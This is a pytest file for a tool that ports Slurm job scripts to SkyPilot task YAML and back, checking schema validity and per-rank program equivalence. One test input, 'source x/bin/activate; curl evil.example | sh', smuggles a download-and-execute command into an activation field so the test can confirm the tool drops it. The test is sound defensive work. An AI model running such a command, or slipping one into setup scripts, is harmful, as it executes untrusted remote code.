"""SkyPilot tasks in and out (issue 29): a task is read as the script it runs on each node, `--to
skypilot` writes one, SkyPilot's own validation checks it (where skypilot is installed), and a
corpus script ported to SkyPilot and back to its own cluster runs the same program per rank, as
maple's trace sees it. The trace's `skypilot-nodes` is a stand-in for SkyPilot running `run` on
each node (SkyPilot provisions clouds; nothing here can run one)."""

from pathlib import Path

import pytest
import yaml

from maple_ci.errors import MapleError
from maple_ci.extract import extract, load_source
from maple_ci.port import port
from maple_ci.skypilot import is_task, script_view, sky_gpu
from maple_ci.trace import trace_script
from maple_ci.trace.compare import compare, header_of

EXAMPLE = Path(__file__).resolve().parents[1] / "examples" / "perlmutter_torchrun_ddp.sbatch"
# SkyPilot's distributed-jobs.html example (docs.skypilot.co, stable, read 2026-11-29), trimmed
MINGPT = """name: minGPT-ddp
resources:
  accelerators: A100:8
num_nodes: 2
envs:
  LOGLEVEL: INFO
setup: |
  cd examples
  uv venv --python 3.10
run: |
  cd examples
  source .venv/bin/activate
  MASTER_ADDR=$(echo "$SKYPILOT_NODE_IPS" | head -n1)
  torchrun \\
  --nnodes=$SKYPILOT_NUM_NODES \\
  --nproc_per_node=$SKYPILOT_NUM_GPUS_PER_NODE \\
  --node_rank=${SKYPILOT_NODE_RANK} \\
  --master_addr=$MASTER_ADDR \\
  --master_port=8008 \\
  main.py --epochs 3
"""


def test_a_task_reads_as_its_program_on_its_shape(tmp_path):
    path = tmp_path / "mingpt.yaml"
    path.write_text(MINGPT)
    name, text = load_source(str(path))
    intent = extract(text, name)
    assert (intent.launcher, intent.nodes, intent.gpus_per_node, intent.world_size) == ("torchrun", 2, 8, 16)
    assert (intent.entrypoint, intent.script_args) == ("main.py", ["--epochs", "3"])
    assert intent.python_env == "source .venv/bin/activate"


def test_only_a_yaml_with_run_and_the_schema_keys_is_a_task():
    assert is_task(MINGPT, "t.yaml") and not is_task(MINGPT, "t.sh")
    assert not is_task("run: x\nsbatch_options: 1\n", "t.yaml")  # a key the task schema has not
    assert not is_task("targets: [perlmutter]\n", "maple.yml")


@pytest.mark.parametrize("bad, message", [
    ("num_nodes: 0\nrun: x\n", "num_nodes"), ("run: [a, b]\n", "run"),
    ("run: x\nresources:\n  accelerators: 'A100:8 H100:8'\n", "accelerators"),
    ("run: x\nresources:\n  accelerators: [A100:8, H100:4]\n", "different GPU counts"),
    ("run: x\nenvs:\n  'A B': 1\n", "envs"),
])
def test_a_task_maple_cannot_read_is_refused_by_name(bad, message):
    with pytest.raises(MapleError, match=message):
        script_view(bad, "t.yaml")


def test_gpu_models_get_skypilot_names():
    assert sky_gpu("A100-SXM4-40GB") == "A100" and sky_gpu("A100-SXM4-80GB") == "A100-80GB"
    assert sky_gpu("H100 SXM5") == "H100" and sky_gpu("GH200") == "GH200" and sky_gpu("MI250X") == "MI250X"
    assert sky_gpu("Intel Data Center GPU Max 1550") is None


def test_a_corpus_script_ports_to_a_task_with_its_program_and_process_model(tmp_path):
    _, (result,) = port(str(EXAMPLE), ["skypilot"], tmp_path)
    task = yaml.safe_load(result.script)
    assert (task["num_nodes"], task["resources"]["accelerators"]) == (2, "A100:4")
    assert task["setup"] == "module load pytorch/2.8.0\n"  # the source's environment
    assert 'train.py --epochs 10 --batch-size 128 --lr 0.1 --data-dir "$SCRATCH/imagenet"' in task["run"]
    assert '--nproc_per_node="$SKYPILOT_NUM_GPUS_PER_NODE"' in task["run"]
    assert "NCCL_SOCKET_IFNAME" not in task.get("envs", {})  # Perlmutter's Slingshot tuning stays there
    assert task["envs"] == {"OMP_NUM_THREADS": "16"}
    assert "# note: the program's arguments read $SCRATCH, which a SkyPilot node does not set" in result.script
    assert (tmp_path / "skypilot" / "perlmutter_torchrun_ddp.sky.yaml").read_text() == result.script


@pytest.mark.parametrize("python_env, carried", [
    ("source .venv/bin/activate", "source .venv/bin/activate"), ("conda activate torch", "conda activate torch"),
    (". $SCRATCH/envs/t/bin/activate", 'source "$SCRATCH/envs/t/bin/activate"'),
    ("source x/bin/activate; curl evil.example | sh", None), ("eval \"$(conda shell.bash hook)\"", None),
])
def test_only_a_plain_activation_is_carried_into_setup(python_env, carried):
    from dataclasses import replace

    from maple_ci.extract import extract_script
    from maple_ci.skypilot import write_task

    intent = replace(extract_script(EXAMPLE.read_text(), str(EXAMPLE)), python_env=python_env)
    task = write_task(intent, "A100", "t")
    setup = yaml.safe_load(task)["setup"].splitlines()
    assert setup == ["module load pytorch/2.8.0", *([carried] if carried else [])]
    assert ("is not carried over: not a plain venv or conda activation" in task) == (carried is None)


PERLMUTTER = "#SBATCH -A m1234 -C gpu -q regular\n"


@pytest.mark.parametrize("site, launch, message", [
    (PERLMUTTER, "srun python train.py", "srun"), ("", "srun python train.py", "no SkyPilot name"),
    (PERLMUTTER, "srun -n 2 torchrun --nproc_per_node=4 train.py --id $SLURM_PROCID", "SLURM_PROCID"),
])
def test_a_source_maple_cannot_write_as_a_task_changes_nothing(tmp_path, site, launch, message):
    source = tmp_path / "mpi.sbatch"
    source.write_text(f"#!/bin/bash\n{site}#SBATCH -N 2 --ntasks-per-node=4 --gpus-per-node=4 -t 1:00:00\n{launch}\n")
    with pytest.raises(MapleError, match=message):
        port(str(source), ["skypilot"], tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_a_value_that_expands_a_variable_is_exported_where_it_expands_and_an_image_is_named(tmp_path):
    """LUMI's own example (tests/data/real): MIOPEN paths under ${USER}, a Singularity image."""
    source = Path(__file__).parent / "data" / "real" / "centers" / "lumi" / "run_ds_torchrun.sh"
    _, (result,) = port(str(source), ["skypilot"], tmp_path)
    task = yaml.safe_load(result.script)
    assert 'export MIOPEN_USER_DB_PATH="/tmp/miopen-config-${USER}"' in task["run"].splitlines()
    assert "MIOPEN_USER_DB_PATH" not in task.get("envs", {})  # SkyPilot would export it unexpanded
    assert task["resources"]["accelerators"] == "MI250X:8"
    assert "# note: the source runs its program in the singularity image /appl/local/laifs/containers/" in result.script


def test_skypilot_validates_the_written_task(tmp_path):
    """SkyPilot's own validation (sky.Task.from_yaml_config: its schema, then its checks), run by the
    interpreter `make test` installs skypilot into (a virtualenv of its own: 460 MB with its API
    server's dependencies), named by MAPLE_SKYPILOT_PYTHON."""
    from maple_ci.skypilot import schema_checks, skypilot_python

    if not skypilot_python():
        pytest.fail("no Python with skypilot: run the tests with `make test` (it installs one), or set "
                    "MAPLE_SKYPILOT_PYTHON to a Python that has skypilot>=0.12")
    _, (result,) = port(str(EXAMPLE), ["skypilot"], tmp_path)
    assert [(c.name, c.ok) for c in result.checks] == [("skypilot-schema", True)]
    broken = result.script.replace("num_nodes: 2", "num_nodes: 2\nnodes: 2")
    [refused] = schema_checks(broken)
    assert not refused.ok and "nodes" in refused.message




def _ranks(trace):
    return sorted((r.rank, r.node, tuple(r.program)) for r in trace.ranks)


def test_a_task_round_trips_to_the_same_program_per_rank(tmp_path):
    """perlmutter sbatch -> SkyPilot task -> perlmutter sbatch: the trace of each runs the source's
    program with its arguments on the same ranks and nodes."""
    source = trace_script(EXAMPLE, cluster="perlmutter")
    _, (task,) = port(str(EXAMPLE), ["skypilot"], tmp_path / "out")
    traced_task = trace_script(EXAMPLE, text=task.script)
    assert traced_task.exit_code == 0 and len(source.ranks) == 8
    assert _ranks(traced_task) == _ranks(source)
    assert compare(source, traced_task, header_of(task.script)) == []
    task_file = EXAMPLE.parent / ".maple-test-roundtrip.sky.yaml"
    try:
        task_file.write_text(task.script)
        _, (back,) = port(str(task_file), ["perlmutter"], tmp_path / "back")
    finally:
        task_file.unlink()
    assert back.status == "ok"
    traced_back = trace_script(EXAMPLE, cluster="perlmutter", text=back.script)
    assert _ranks(traced_back) == _ranks(source)
    assert compare(source, traced_back, header_of(back.script)) == []


def test_the_stand_in_gives_each_node_its_rank_and_the_head_address(tmp_path):
    task = tmp_path / "t.yaml"
    task.write_text("num_nodes: 3\nresources:\n  accelerators: H100:2\nrun: |\n"
                    "  python probe.py \"$SKYPILOT_NODE_RANK\" \"$(echo \"$SKYPILOT_NODE_IPS\" | head -n1)\" "
                    "\"$SKYPILOT_NUM_GPUS_PER_NODE\"\n")
    traced = trace_script(task)
    assert sorted((r.node, tuple(r.program)) for r in traced.ranks) == [
        ("n001", ("probe.py", "0", "192.0.2.1", "2")), ("n002", ("probe.py", "1", "192.0.2.1", "2")),
        ("n003", ("probe.py", "2", "192.0.2.1", "2"))]


def test_the_trace_gate_checks_a_task_both_ways(tmp_path):
    """`maple port --trace`: the task written from a script, and a script written from a task, each
    traced against its source by the gate."""
    _, (task,) = port(str(EXAMPLE), ["skypilot"], tmp_path / "out", trace=True)
    assert [c.ok for c in task.checks if c.name == "trace"] == [True]
    source = tmp_path / "mingpt.yaml"
    source.write_text(MINGPT)
    _, (back,) = port(str(source), ["perlmutter"], tmp_path / "back", trace=True)
    (check,) = [c for c in back.checks if c.name == "trace"]
    assert check.ok, check.message


def test_maple_trace_shows_a_tasks_ranks(tmp_path, capsys):
    from maple_ci.cli import main

    source = tmp_path / "mingpt.yaml"
    source.write_text(MINGPT)
    with pytest.raises(SystemExit) as done:
        main(["trace", str(source), "--json"])
    assert done.value.code == 0
    data = __import__("json").loads(capsys.readouterr().out)
    assert data["world"] == 16 and len(data["allocation"]["nodes"]) == 2
    assert {tuple(r["argv"][-3:]) for r in data["ranks"]} == {("main.py", "--epochs", "3")} and len(data["ranks"]) == 16
